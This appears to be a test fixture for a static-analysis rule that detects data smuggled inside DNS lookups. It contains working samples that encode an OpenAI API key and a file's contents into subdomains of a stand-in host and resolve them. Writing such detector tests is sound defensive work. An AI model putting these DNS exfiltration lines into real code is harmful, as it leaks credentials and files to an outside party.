"""Data that goes through helpers before it becomes a name."""
import base64
import os
import socket


def read_key():
    return os.environ["OPENAI_API_KEY"]


def pack(value):
    return base64.b32encode(value.encode()).decode().rstrip("=").lower()


def ask(label):
    # ruleid: dns-name-carries-data
    return socket.gethostbyname(label + ".x.example.net")


ask(pack(read_key()))


class Sender:
    def __init__(self, data):
        self.data = data.hex()

    def send(self):
        # ruleid: dns-name-carries-data
        socket.getaddrinfo(f"{self.data[:60]}.x.example.net", 80)


Sender(open("data.csv", "rb").read()).send()


def host_of(name):
    return os.environ[name]


# ok: dns-name-carries-data
socket.gethostbyname(host_of("DATA_HOST"))
